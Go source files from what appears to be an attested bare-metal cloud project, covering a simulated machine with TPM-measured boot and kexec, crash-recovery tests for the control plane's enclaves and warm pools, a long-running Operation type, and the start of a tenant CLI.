// RunLayer identifies what is currently executing on a machine.
type RunLayer string

// Run layers in boot order.
const (
	LayerOff          RunLayer = "off"
	LayerFirmware     RunLayer = "firmware"      // UEFI DXE or LinuxBoot runtime
	LayerTenantKernel RunLayer = "tenant-kernel" // after kexec
)

// Machine is a physical server: TPM, DRAM, flash-installed firmware, a
// switch port, and a power state driven through its BMC methods.
type Machine struct {
	name string
	port string

	mu       sync.Mutex
	tpm      *tpm.TPM
	mem      *Memory
	flash    Firmware
	powered  bool
	layer    RunLayer
	kernelID string // identity of the kexec'd kernel, if any
}

// NewMachine manufactures a server with the given flash firmware and
// switch port. The TPM is fused at manufacture and survives reflashing.
func NewMachine(name, port string, flash Firmware) (*Machine, error) {
	if flash == nil {
		return nil, errors.New("firmware: machine needs flash firmware")
	}
	t, err := tpm.New()
	if err != nil {
		return nil, err
	}
	return &Machine{name: name, port: port, tpm: t, mem: NewMemory(), flash: flash, layer: LayerOff}, nil
}

// Name returns the machine name.
func (m *Machine) Name() string { return m.name }

// Port returns the machine's switch port.
func (m *Machine) Port() string { return m.port }

// TPM returns the machine's TPM.
func (m *Machine) TPM() *tpm.TPM { return m.tpm }

// Memory returns the machine's DRAM.
func (m *Machine) Memory() *Memory { return m.mem }

// Firmware returns the installed flash firmware.
func (m *Machine) Firmware() Firmware {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.flash
}

// ReflashFirmware replaces the flash image. In the threat model only
// physical access or a firmware bug permits this; tests use it to plant
// compromised firmware for attestation to catch.
func (m *Machine) ReflashFirmware(fw Firmware) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.flash = fw
}

// Powered reports the power state.
func (m *Machine) Powered() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.powered
}

// Layer reports what is currently running.
func (m *Machine) Layer() RunLayer {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.layer
}

// KernelID reports the identity of the running tenant kernel ("" before
// kexec).
func (m *Machine) KernelID() string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.kernelID
}

// PowerOn starts the machine: the TPM begins a fresh boot (PCRs reset)
// and the flash firmware executes its measured entry. Note that DRAM is
// NOT cleared by the power cycle itself — only firmware that explicitly
// scrubs (LinuxBoot) clears it, which is exactly the paper's argument
// for attesting the firmware.
func (m *Machine) PowerOn() error {
	m.mu.Lock()
	if m.powered {
		m.mu.Unlock()
		return fmt.Errorf("firmware: %s already powered on", m.name)
	}
	m.powered = true
	m.layer = LayerFirmware
	m.kernelID = ""
	fw := m.flash
	m.mu.Unlock()

	m.tpm.Reset()
	return fw.Enter(m)
}

// PowerOff halts the machine. DRAM contents persist (the model errs on
// the side of the attacker: remanence).
func (m *Machine) PowerOff() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !m.powered {
		return fmt.Errorf("firmware: %s already off", m.name)
	}
	m.powered = false
	m.layer = LayerOff
	m.kernelID = ""
	return nil
}

// PowerCycle is the BMC reset: off then on.
func (m *Machine) PowerCycle() error {
	m.mu.Lock()
	if m.powered {
		m.powered = false
		m.layer = LayerOff
	}
	m.mu.Unlock()
	return m.PowerOn()
}

// Kexec jumps from the current runtime into a tenant kernel without a
// firmware pass: the kernel and initrd are measured into PCRKernel
// first, so the running stack remains fully attested, and the TPM is
// NOT reset (kexec preserves PCRs).
func (m *Machine) Kexec(kernelID string, kernel, initrd []byte) error {
	m.mu.Lock()
	if m.powered && m.layer == LayerTenantKernel && m.kernelID == kernelID {
		// Idempotent replay: the node already runs exactly this kernel.
		// A retry after a torn response (the kexec landed, its
		// acknowledgement was lost) must converge without re-extending
		// the PCRs — the TPM already records exactly one kexec.
		m.mu.Unlock()
		return nil
	}
	if !m.powered || m.layer != LayerFirmware {
		m.mu.Unlock()
		return fmt.Errorf("firmware: kexec requires running firmware runtime (layer=%s)", m.layer)
	}
	m.mu.Unlock()
	if err := m.tpm.ExtendData(PCRKernel, kernel, "kexec-kernel:"+kernelID); err != nil {
		return err
	}
	if err := m.tpm.ExtendData(PCRKernel, initrd, "kexec-initrd:"+kernelID); err != nil {
		return err
	}
	m.mu.Lock()
	m.layer = LayerTenantKernel
	m.kernelID = kernelID
	m.mu.Unlock()
	return nil
}
