package core

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"bolted/internal/store"
)

// copyStoreDir snapshots a live store directory the way a crash does:
// whatever bytes are on disk at this instant, nothing more. The source
// manager can keep running against its own directory; recovery runs
// against the copy.
func copyStoreDir(t *testing.T, src string) string {
	t.Helper()
	dst := t.TempDir()
	for _, name := range []string{"wal.log", "snapshot.json"} {
		b, err := os.ReadFile(filepath.Join(src, name))
		if err != nil {
			if os.IsNotExist(err) {
				continue
			}
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dst, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dst
}

// durableManager builds a Manager over a fresh cloud and a file store.
func durableManager(t *testing.T, nodes int) (*Manager, string) {
	t.Helper()
	dir := t.TempDir()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	cloud := testCloud(t, nodes, FirmwareLinuxBoot)
	return NewManagerWithStore(cloud, st), dir
}

// recoverFrom opens a crash-copy of dir on a brand-new cloud of the
// same size and runs recovery — a full control-plane restart.
func recoverFrom(t *testing.T, dir string, nodes int) (*Manager, *RecoverReport) {
	t.Helper()
	st, err := store.Open(copyStoreDir(t, dir))
	if err != nil {
		t.Fatal(err)
	}
	cloud := testCloud(t, nodes, FirmwareLinuxBoot)
	mgr := NewManagerWithStore(cloud, st)
	report, err := mgr.Recover(context.Background())
	if err != nil {
		t.Fatalf("Recover: %v", err)
	}
	return mgr, report
}

// TestRecoverReadoptsMembersAndWarm is the tentpole scenario: a durable
// control plane with allocated members, a filled warm pool, a quota and
// a pool policy restarts, and every recorded node is re-adopted by a
// fresh attestation quote — no orphaned hardware, no trusted-by-replay
// members — while journal cursors taken before the crash keep working.
func TestRecoverReadoptsMembersAndWarm(t *testing.T) {
	const nodes = 8
	mgr1, dir := durableManager(t, nodes)
	if _, err := mgr1.CreateEnclave("dur", ProfileBob); err != nil {
		t.Fatal(err)
	}
	if _, _, err := mgr1.SetQuota("dur", TenantQuota{Weight: 3, MaxNodes: 6}); err != nil {
		t.Fatal(err)
	}
	pol := DefaultPoolPolicy()
	pol.Target = 2
	if _, _, err := mgr1.ConfigurePool("dur", pol); err != nil {
		t.Fatal(err)
	}
	op, err := mgr1.StartAcquire("dur", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	res, err := op.Wait(context.Background())
	if err != nil || res == nil || len(res.Nodes) != 2 {
		t.Fatalf("acquire: %v %+v", err, res)
	}
	e1, _ := mgr1.Enclave("dur")
	waitWarm(t, e1, 2)

	// A tenant streamed events up to midSeq before the crash.
	preEvents := e1.Journal().Events()
	if len(preEvents) < 4 {
		t.Fatalf("expected a rich pre-crash journal, got %d events", len(preEvents))
	}
	midSeq := preEvents[len(preEvents)/2].Seq

	mgr2, report := recoverFrom(t, dir, nodes)
	if report.Enclaves != 1 {
		t.Fatalf("report.Enclaves = %d", report.Enclaves)
	}
	if len(report.Readopted) != 4 {
		var post []Event
		if e, err := mgr2.Enclave("dur"); err == nil {
			post = e.Journal().Events()
		}
		t.Fatalf("re-adopted %v, want 2 members + 2 warm (rejected %v, released %v)\npost-recovery journal:\n%v",
			report.Readopted, report.Rejected, report.Released, post)
	}

	e2, err := mgr2.Enclave("dur")
	if err != nil {
		t.Fatal(err)
	}
	states := e2.NodeStates()
	var allocated, warm int
	for n, s := range states {
		switch s {
		case StateAllocated:
			allocated++
		case StateWarm:
			warm++
		default:
			t.Errorf("node %s recovered into %s", n, s)
		}
	}
	if allocated != 2 || warm != 2 {
		t.Fatalf("recovered states = %v, want 2 allocated + 2 warm", states)
	}
	// Every member was re-adopted through the acquisition pipeline — a
	// fresh quote, not trust-by-replay: the post-recovery journal holds a
	// readopt allocation and an EvRecovered per node.
	if got := e2.Journal().Count(EvRecovered); got != 4 {
		t.Fatalf("EvRecovered count = %d, want 4", got)
	}

	// Zero orphaned hardware: the new provider sees exactly the nodes
	// the enclave holds as allocated-to-project.
	free, err := mgr2.cloud.HIL.FreeNodes()
	if err != nil {
		t.Fatal(err)
	}
	if len(free) != nodes-4 {
		t.Fatalf("free nodes after recovery = %d (%v), want %d", len(free), free, nodes-4)
	}

	// Quota and pool policy survived.
	q, err := mgr2.Quota("dur")
	if err != nil || q.Quota.Weight != 3 || q.Quota.MaxNodes != 6 {
		t.Fatalf("quota after recovery: %+v, %v", q, err)
	}
	ps, err := mgr2.PoolStats("dur")
	if err != nil || ps.Policy.Target != 2 {
		t.Fatalf("pool after recovery: %+v, %v", ps, err)
	}

	// Cursor stability: resuming from the pre-crash cursor yields the
	// rest of the pre-crash history and then the recovery events, with
	// contiguous seqs — no gaps, no duplicates.
	resumed := e2.Journal().SinceSeq(midSeq)
	if len(resumed) == 0 || resumed[0].Seq != midSeq+1 {
		t.Fatalf("SinceSeq(%d) starts at %+v", midSeq, resumed)
	}
	want := midSeq
	for _, ev := range resumed {
		want++
		if ev.Seq != want {
			t.Fatalf("seq gap: got %d want %d", ev.Seq, want)
		}
	}
	// The replayed prefix is byte-for-byte the pre-crash history.
	post := e2.Journal().Events()
	for i, ev := range preEvents {
		if post[i].Seq != ev.Seq || post[i].Kind != ev.Kind || post[i].Node != ev.Node {
			t.Fatalf("replayed event %d = %+v, pre-crash %+v", i, post[i], ev)
		}
	}
	// New events (recovery re-adoption) continue the sequence, never
	// reuse it.
	last := preEvents[len(preEvents)-1].Seq
	fresh := e2.Journal().SinceSeq(last)
	if len(fresh) == 0 {
		t.Fatal("recovery recorded no new events")
	}
	for _, ev := range fresh {
		if ev.Seq <= last {
			t.Fatalf("recovery event reused seq %d (last pre-crash %d)", ev.Seq, last)
		}
	}
}

// TestRecoverInterruptedAcquire kills the control plane mid-batch: the
// recorded operation surfaces as interrupted, its partially-held nodes
// are released or re-adopted (never stuck mid-pipeline), and the
// idempotency key maps back to the interrupted operation across the
// restart so the client knows to re-submit.
func TestRecoverInterruptedAcquire(t *testing.T) {
	const nodes = 4
	mgr1, dir := durableManager(t, nodes)
	if _, err := mgr1.CreateEnclave("dur", ProfileBob); err != nil {
		t.Fatal(err)
	}
	e1, _ := mgr1.Enclave("dur")

	// Crash the instant the first node starts attesting. The journal
	// persist hook commits before fan-out, so when this fires the event
	// is already on disk.
	attesting := make(chan struct{})
	var once sync.Once
	cancel := e1.Journal().Watch(func(ev Event) {
		if ev.Kind == EvAttesting {
			once.Do(func() { close(attesting) })
		}
	})
	defer cancel()

	op1, replayed, err := mgr1.StartAcquireIdem("dur", "fedora28", 3, "retry-key-1")
	if err != nil || replayed {
		t.Fatalf("StartAcquireIdem: %v replayed=%v", err, replayed)
	}
	select {
	case <-attesting:
	case <-time.After(15 * time.Second):
		t.Fatal("batch never reached attestation")
	}
	dir2 := copyStoreDir(t, dir)

	st, err := store.Open(dir2)
	if err != nil {
		t.Fatal(err)
	}
	mgr2 := NewManagerWithStore(testCloud(t, nodes, FirmwareLinuxBoot), st)
	report, err := mgr2.Recover(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Interrupted) != 1 {
		t.Fatalf("interrupted ops = %v, want exactly %s", report.Interrupted, op1.ID)
	}

	op2, err := mgr2.Operation(op1.ID)
	if err != nil {
		t.Fatal(err)
	}
	st2 := op2.Status()
	if st2.Phase != OpInterrupted || !st2.Phase.Terminal() {
		t.Fatalf("recovered op phase = %s", st2.Phase)
	}
	if st2.Err == nil {
		t.Fatal("interrupted op should carry an error explaining the restart")
	}
	// Wait returns immediately: the op is terminal, not wedged.
	waitCtx, waitCancel := context.WithTimeout(context.Background(), time.Second)
	defer waitCancel()
	if _, err := op2.Wait(waitCtx); err == nil {
		t.Fatal("Wait on an interrupted op should surface its error")
	}

	// No node is stuck mid-pipeline: everything is allocated (re-adopted
	// members that had joined before the crash), rejected, or back in
	// the free pool.
	e2, _ := mgr2.Enclave("dur")
	for n, s := range e2.NodeStates() {
		switch s {
		case StateAllocated, StateRejected:
		default:
			t.Errorf("node %s recovered into non-terminal state %s", n, s)
		}
	}

	// The idempotency key survived the restart and maps to the
	// interrupted operation — the retry does NOT start a second batch.
	opRetry, replayed, err := mgr2.StartAcquireIdem("dur", "fedora28", 3, "retry-key-1")
	if err != nil {
		t.Fatal(err)
	}
	if !replayed || opRetry.ID != op1.ID {
		t.Fatalf("idem retry: replayed=%v id=%s, want replay of %s", replayed, opRetry.ID, op1.ID)
	}
	// A fresh key runs a fresh batch to completion on the recovered
	// control plane.
	opNew, replayed, err := mgr2.StartAcquireIdem("dur", "fedora28", 1, "retry-key-2")
	if err != nil || replayed {
		t.Fatalf("fresh acquire after recovery: %v replayed=%v", err, replayed)
	}
	if res, err := opNew.Wait(context.Background()); err != nil || len(res.Nodes) != 1 {
		t.Fatalf("post-recovery acquire: %v %+v", err, res)
	}
	if got := opNew.Status().Phase; got != OpDone {
		t.Fatalf("post-recovery acquire phase = %s", got)
	}
}

// TestRecoverRestoresQuarantine: distrust survives a restart verbatim —
// a quarantined node is NOT re-quoted back into the enclave, and the
// provider keeps it out of the free pool.
func TestRecoverRestoresQuarantine(t *testing.T) {
	const nodes = 4
	mgr1, dir := durableManager(t, nodes)
	if _, err := mgr1.CreateEnclave("dur", ProfileCharlie); err != nil {
		t.Fatal(err)
	}
	op, err := mgr1.StartAcquire("dur", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	res, err := op.Wait(context.Background())
	if err != nil || len(res.Nodes) != 2 {
		t.Fatalf("acquire: %v", err)
	}
	e1, _ := mgr1.Enclave("dur")
	bad := res.Nodes[0].Name
	if err := e1.QuarantineNode(bad, "runtime integrity violation"); err != nil {
		t.Fatal(err)
	}

	mgr2, report := recoverFrom(t, dir, nodes)
	if len(report.Quarantined) != 1 {
		t.Fatalf("report.Quarantined = %v", report.Quarantined)
	}
	e2, _ := mgr2.Enclave("dur")
	states := e2.NodeStates()
	if states[bad] != StateQuarantined {
		t.Fatalf("quarantined node recovered into %s", states[bad])
	}
	// The surviving member was re-adopted by fresh quote.
	var allocated int
	for _, s := range states {
		if s == StateAllocated {
			allocated++
		}
	}
	if allocated != 1 {
		t.Fatalf("states after recovery = %v", states)
	}
	// The provider never hands the quarantined machine to anyone.
	free, err := mgr2.cloud.HIL.FreeNodes()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range free {
		if n == bad {
			t.Fatalf("quarantined node %s back in the free pool", bad)
		}
	}
}

// TestRecoverClosesInterruptedIncident: an incident that was mid-
// response when the control plane died cannot keep "responding" — its
// responder died with the process — so recovery closes it as unhandled
// with an explanation, and the incident feed replays across the restart
// with stable cursors.
func TestRecoverClosesInterruptedIncident(t *testing.T) {
	const nodes = 2
	mgr1, dir := durableManager(t, nodes)
	if _, err := mgr1.CreateEnclave("dur", ProfileBob); err != nil {
		t.Fatal(err)
	}
	inc := mgr1.OpenIncident("dur", "node00", "revocation: ima violation")
	inc.Step("quarantine", "tearing node00 out of the enclave")
	// Pre-crash cursor: the tenant has streamed both updates.
	pre, _, cursor := mgr1.IncidentUpdatesSince(0)
	if len(pre) != 2 {
		t.Fatalf("pre-crash incident updates = %d", len(pre))
	}

	mgr2, _ := recoverFrom(t, dir, nodes)
	inc2, err := mgr2.Incident(inc.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got := inc2.State(); got != IncidentUnhandled {
		t.Fatalf("interrupted incident recovered as %s", got)
	}
	select {
	case <-inc2.Done():
	default:
		t.Fatal("recovered incident not terminal")
	}
	// Resuming from the pre-crash cursor yields exactly the close
	// update — no gaps, no replayed duplicates.
	updates, _, _ := mgr2.IncidentUpdatesSince(cursor)
	if len(updates) != 1 || updates[0].State != IncidentUnhandled {
		t.Fatalf("resumed incident updates = %+v", updates)
	}
}

// TestManagerFailsClosedOnStoreFailure: when the store cannot commit
// (disk full), mutations are refused rather than acknowledged —
// nothing the control plane confirmed can be lost by the crash that
// follows.
func TestManagerFailsClosedOnStoreFailure(t *testing.T) {
	cloud := testCloud(t, 4, FirmwareLinuxBoot)
	faulty := store.NewFaulty(store.NewMemory())
	mgr := NewManagerWithStore(cloud, faulty)

	faulty.FailAppendsAfter(0, nil) // ENOSPC from the first append
	if _, err := mgr.CreateEnclave("dur", ProfileBob); err == nil {
		t.Fatal("CreateEnclave acknowledged without a committed record")
	} else if !errors.Is(err, store.ErrNoSpace) {
		t.Fatalf("CreateEnclave error = %v, want ErrNoSpace", err)
	}
	if _, err := mgr.Enclave("dur"); err == nil {
		t.Fatal("uncommitted enclave left registered")
	}

	faulty.Heal()
	if _, err := mgr.CreateEnclave("dur", ProfileBob); err != nil {
		t.Fatal(err)
	}

	// Quota set with a dead disk: refused and rolled back.
	faulty.FailAppendsAfter(0, nil)
	if _, _, err := mgr.SetQuota("dur", TenantQuota{Weight: 2}); err == nil {
		t.Fatal("SetQuota acknowledged without a committed record")
	}
	if _, err := mgr.Quota("dur"); err == nil {
		t.Fatal("uncommitted quota left applied")
	}

	// An acquire whose op-started record cannot commit never starts.
	if _, _, err := mgr.StartAcquireIdem("dur", "fedora28", 1, "k"); err == nil {
		t.Fatal("StartAcquire acknowledged without a committed record")
	}
	if ops := mgr.ListOperations(); len(ops) != 0 {
		t.Fatalf("uncommitted operation left registered: %v", ops)
	}

	// Disk dies mid-pipeline: the journal freezes (audit trail stays
	// truthful) and lifecycle transitions fail closed — no node joins
	// the enclave unjournaled.
	faulty.Heal()
	faulty.FailAppendsAfter(1, nil) // the op-started record commits; nothing after
	op, _, err := mgr.StartAcquireIdem("dur", "fedora28", 1, "k2")
	if err != nil {
		t.Fatal(err)
	}
	fin, _ := op.Wait(context.Background())
	if fin != nil && len(fin.Nodes) > 0 {
		t.Fatalf("batch allocated %d node(s) with a dead store", len(fin.Nodes))
	}
	e, _ := mgr.Enclave("dur")
	if err := e.Journal().Err(); err == nil {
		t.Fatal("journal did not record the sticky persist failure")
	}
}

// TestRecoverInterruptedRefill kills the control plane mid-warm-refill:
// the node the refiller held is recorded mid-pipeline, so recovery
// releases it (never silently keeps half-warmed hardware), and the
// restarted refiller — resumed only after re-adoption — fills the pool
// back to its persisted target.
func TestRecoverInterruptedRefill(t *testing.T) {
	const nodes = 6
	mgr1, dir := durableManager(t, nodes)
	if _, err := mgr1.CreateEnclave("dur", ProfileBob); err != nil {
		t.Fatal(err)
	}
	e1, _ := mgr1.Enclave("dur")

	// Crash at the instant the first refill allocation hits the journal:
	// the store already holds the allocated-for-refill record (events are
	// staged before fan-out), but nothing warm yet.
	var crashCopy string
	var once sync.Once
	copied := make(chan struct{})
	unwatch := e1.Journal().Watch(func(ev Event) {
		if ev.Kind == EvAllocated && ev.Detail == "warm refill" {
			once.Do(func() {
				crashCopy = copyStoreDir(t, dir)
				close(copied)
			})
		}
	})
	defer unwatch()

	pol := DefaultPoolPolicy()
	pol.Target = 2
	pol.MaxRefill = 2
	if _, _, err := mgr1.ConfigurePool("dur", pol); err != nil {
		t.Fatal(err)
	}
	select {
	case <-copied:
	case <-time.After(15 * time.Second):
		t.Fatal("refiller never allocated a node")
	}

	st, err := store.Open(crashCopy)
	if err != nil {
		t.Fatal(err)
	}
	mgr2 := NewManagerWithStore(testCloud(t, nodes, FirmwareLinuxBoot), st)
	report, err := mgr2.Recover(context.Background())
	if err != nil {
		t.Fatalf("Recover: %v", err)
	}

	// Nothing had earned trust at the crash, so nothing is re-adopted or
	// rejected — the mid-refill node(s) are released with an audit trail.
	if len(report.Readopted) != 0 || len(report.Rejected) != 0 || len(report.Quarantined) != 0 {
		t.Fatalf("mid-refill recovery re-adopted %v / rejected %v / quarantined %v, want none",
			report.Readopted, report.Rejected, report.Quarantined)
	}
	if len(report.Released) == 0 {
		t.Fatalf("mid-refill node was not released: %+v", report)
	}
	e2, err := mgr2.Enclave("dur")
	if err != nil {
		t.Fatal(err)
	}
	released := false
	for _, ev := range e2.Journal().Events() {
		if ev.Kind == EvReleased && strings.Contains(ev.Detail, "interrupted mid-") {
			released = true
		}
	}
	if !released {
		t.Fatal("no released-at-recovery event in the recovered journal")
	}

	// The pool policy survived, and the resumed refiller reaches target.
	waitWarm(t, e2, 2)
	states := e2.NodeStates()
	for n, s := range states {
		if s != StateWarm {
			t.Fatalf("node %s recovered into %s, want only warm standbys: %v", n, s, states)
		}
	}
}
