package core

import (
	"context"
	"errors"
	"sync"
	"time"
)

// This file is the asynchronous half of the tenant control plane: a
// multi-minute attested batch boot (Figures 4-5) must not be a blocking
// function call when the tenant sits on the other side of an HTTP API.
// An Operation wraps one AcquireNodes run as a first-class resource the
// tenant can poll, stream, and cancel, with per-node progress derived
// from the Figure-1 lifecycle journal.

// OpPhase is an Operation's position in its own small life cycle.
type OpPhase string

// Operation phases. Done and Cancelled are terminal.
const (
	// OpPending: created, worker not yet running.
	OpPending OpPhase = "pending"
	// OpRunning: the batch pipeline is in flight.
	OpRunning OpPhase = "running"
	// OpDone: the batch finished (possibly with per-node failures —
	// inspect Result.Failed).
	OpDone OpPhase = "done"
	// OpCancelled: the tenant cancelled mid-flight; unfinished nodes
	// were returned to the free pool (Result.Aborted).
	OpCancelled OpPhase = "cancelled"
	// OpInterrupted: the control plane restarted while the batch was in
	// flight. Partially-held nodes were released during recovery; the
	// tenant retries (an Idempotency-Key retry of an interrupted
	// operation returns it rather than starting a duplicate, so clients
	// see the interruption explicitly before re-submitting).
	OpInterrupted OpPhase = "interrupted"
)

// Terminal reports whether the phase is final.
func (p OpPhase) Terminal() bool {
	return p == OpDone || p == OpCancelled || p == OpInterrupted
}

// Operation is one long-running acquisition tracked by a Manager. All
// methods are safe for concurrent use.
type Operation struct {
	ID      string
	Enclave string
	Image   string
	Count   int
	Created time.Time

	seq    int // manager-assigned creation order
	cancel context.CancelFunc
	done   chan struct{}

	mu       sync.Mutex
	phase    OpPhase
	result   *BatchResult
	err      error
	finished time.Time
	events   []Event       // lifecycle journal events observed while running
	notify   chan struct{} // closed and replaced on every append / phase change
	progress map[string]EventKind
}

func newOperation(id, enclave, image string, n int, cancel context.CancelFunc) *Operation {
	return &Operation{
		ID:       id,
		Enclave:  enclave,
		Image:    image,
		Count:    n,
		Created:  time.Now(),
		cancel:   cancel,
		done:     make(chan struct{}),
		phase:    OpPending,
		notify:   make(chan struct{}),
		progress: make(map[string]EventKind),
	}
}

// newRestoredOperation rebuilds an operation from the durable log during
// recovery. Terminal phases come back with their recorded outcome; an
// operation that was in flight at the crash comes back OpInterrupted with
// err explaining why.
func newRestoredOperation(id, enclave, image string, n int, created time.Time, phase OpPhase, errMsg string, finished time.Time) *Operation {
	op := &Operation{
		ID:       id,
		Enclave:  enclave,
		Image:    image,
		Count:    n,
		Created:  created,
		cancel:   func() {},
		done:     make(chan struct{}),
		phase:    phase,
		finished: finished,
		notify:   make(chan struct{}),
		progress: make(map[string]EventKind),
	}
	if errMsg != "" {
		op.err = errors.New(errMsg)
	}
	if phase.Terminal() {
		close(op.done)
	}
	return op
}

// observe is the journal watcher: record the event, track the node's
// latest lifecycle step, and wake pollers. Called under the journal
// lock, so it must not touch the journal.
func (o *Operation) observe(ev Event) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.phase.Terminal() {
		return
	}
	o.events = append(o.events, ev)
	o.progress[ev.Node] = ev.Kind
	o.wake()
}

// wake signals every waiter that state advanced. Callers hold o.mu.
func (o *Operation) wake() {
	close(o.notify)
	o.notify = make(chan struct{})
}

func (o *Operation) setRunning() {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.phase = OpRunning
	o.wake()
}

// finish records the batch outcome and moves the operation to its
// terminal phase: Cancelled when the error is the run's own
// cancellation, Done otherwise. The done channel closes exactly once.
func (o *Operation) finish(res *BatchResult, err error, cancelled bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.result = res
	o.err = err
	o.finished = time.Now()
	if cancelled {
		o.phase = OpCancelled
	} else {
		o.phase = OpDone
	}
	o.wake()
	close(o.done)
}

// Cancel asks the run to stop at the next phase boundary. Unfinished
// nodes are returned to the free pool (never quarantined); nodes that
// already allocated stay allocated. Cancelling a terminal operation is
// a no-op.
func (o *Operation) Cancel() { o.cancel() }

// Phase returns the operation's current phase.
func (o *Operation) Phase() OpPhase {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.phase
}

// Done returns a channel closed when the operation reaches a terminal
// phase.
func (o *Operation) Done() <-chan struct{} { return o.done }

// Finished returns when the operation reached a terminal phase (zero
// while in flight).
func (o *Operation) Finished() time.Time {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.finished
}

// Wait blocks until the operation is terminal (returning its outcome)
// or ctx ends (returning ctx's error).
func (o *Operation) Wait(ctx context.Context) (*BatchResult, error) {
	select {
	case <-o.done:
		o.mu.Lock()
		defer o.mu.Unlock()
		return o.result, o.err
	case <-ctx.Done():
		return nil, ctx.Err()
	}
}

// Result returns the batch outcome, or (nil, nil) while the operation
// is still in flight.
func (o *Operation) Result() (*BatchResult, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if !o.phase.Terminal() {
		return nil, nil
	}
	return o.result, o.err
}

// OpStatus is a consistent point-in-time view of an Operation: every
// field observed under one lock, so a terminal phase always comes with
// its result. Result and Err are nil while the phase is non-terminal.
type OpStatus struct {
	Phase    OpPhase
	Finished time.Time
	Progress map[string]EventKind
	Result   *BatchResult
	Err      error
}

// Status snapshots the operation atomically — the poll surface must
// never observe phase "done" without its result.
func (o *Operation) Status() OpStatus {
	o.mu.Lock()
	defer o.mu.Unlock()
	st := OpStatus{
		Phase:    o.phase,
		Finished: o.finished,
		Progress: make(map[string]EventKind, len(o.progress)),
	}
	for n, k := range o.progress {
		st.Progress[n] = k
	}
	if o.phase.Terminal() {
		st.Result, st.Err = o.result, o.err
	}
	return st
}

// Progress returns each touched node's latest lifecycle step.
func (o *Operation) Progress() map[string]EventKind {
	o.mu.Lock()
	defer o.mu.Unlock()
	out := make(map[string]EventKind, len(o.progress))
	for n, k := range o.progress {
		out[n] = k
	}
	return out
}

// Events returns the lifecycle journal events the operation has
// observed so far.
func (o *Operation) Events() []Event {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]Event(nil), o.events...)
}

// EventsSince returns the events past cursor, a channel that closes
// when anything new happens, and whether the operation is terminal.
// A streamer loops: emit the slice, advance the cursor, and — unless
// terminal with nothing pending — select on the notify channel. No
// event is ever lost between the snapshot and the wait.
func (o *Operation) EventsSince(cursor int) ([]Event, <-chan struct{}, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	var evs []Event
	if cursor < len(o.events) {
		evs = append([]Event(nil), o.events[cursor:]...)
	}
	return evs, o.notify, o.phase.Terminal()
}
