// Command boltedctl is the tenant CLI for a running boltedd: it speaks
// the service-plane REST APIs to manage projects, nodes, networks,
// power and images — and drives the /v1 tenant control plane, where
// enclaves are named server-side resources and batch acquisitions run
// as asynchronous Operations that can be polled, streamed and
// cancelled.
//
// Usage:
//
//	boltedctl [-server URL] [-json] <command> [args]
//
// All flags precede the command (standard library flag parsing stops
// at the first positional argument).
//
//	project create <name>
//	node list-free
//	node allocate <project> [node]
//	node free <project> <node>
//	node metadata <node>
//	net create <project> <network>
//	net delete <project> <network>
//	net connect <project> <node> <network>
//	net detach <project> <node> <network>
//	power <on|off|cycle> <project> <node>
//	image list
//	image create <name> <size-bytes>
//	image clone <src> <dst>
//	image snapshot <src> <snap>
//	image delete <name>
//	image bootinfo <name>
//	firmware verify <node> <source-id> <source-file>
//	enclave create <name>         (-profile alice|bob|charlie)
//	enclave list
//	enclave get <name>
//	enclave delete <name>
//	enclave acquire <image> <n>   (-project NAME, -async, -idem KEY)
//	enclave release <node>        (-project NAME, -save IMAGE)
//	enclave reclaim <node>        (-project NAME)
//	enclave guard <name> [enable|disable]  (-interval, -max-quotes, -tolerance, -heal-image)
//	enclave events <name>         (-follow)
//	enclave revocations <name>
//	pool set <enclave>            (-target, -airlocks, -refill)
//	pool get <enclave>
//	pool list
//	pool drain <enclave>
//	pool delete <enclave>
//	quota set <tenant>            (-weight, -max-nodes, -inflight)
//	quota get <tenant>
//	quota list
//	quota delete <tenant>
//	sched stats
//	health
//	resilience get [enclave]
//	resilience set [enclave]      (-max-attempts, -retry-backoff,
//	                               -backoff-cap, -phase-deadline,
//	                               -breaker-threshold, -breaker-cooldown)
//	op list
//	op get <id>
//	op wait <id>
//	op cancel <id>
//	op events <id>
//	incident list [enclave]
//	incident get <id>
//	incident wait <id>
//	incident stream
//
// Exit codes are script-friendly: 0 success, 1 transport or API error,
// 2 usage error, 3 batch finished but some nodes failed (inspect
// result.failed), 4 operation cancelled, 5 incident open or enclave
// degraded (enclave get with open incidents; incident get while the
// response is still running; incident wait ending degraded/unhandled),
// 6 acquire rejected by admission control (HTTP 429) after the
// client's transparent retries were exhausted, 7 cloud degraded (a
// backend circuit breaker is open: acquires fail fast, `health`
// reports which breaker).
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"time"

	"bolted"
	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/hil"
)

// Script-facing exit codes: partial batch failure is distinct from a
// transport error so automation can branch on BatchResult.Failed.
const (
	exitOK        = 0
	exitError     = 1 // transport or API error
	exitUsage     = 2
	exitPartial   = 3 // operation done, but some nodes were rejected
	exitCancelled = 4 // operation cancelled before completion
	exitIncident  = 5 // incident open, or incident ended degraded/unhandled
	exitQuota     = 6 // acquire rejected by admission control (429), retries exhausted
	exitDegraded  = 7 // cloud degraded: a backend circuit breaker is open
)

var jsonOut bool

func usage() {
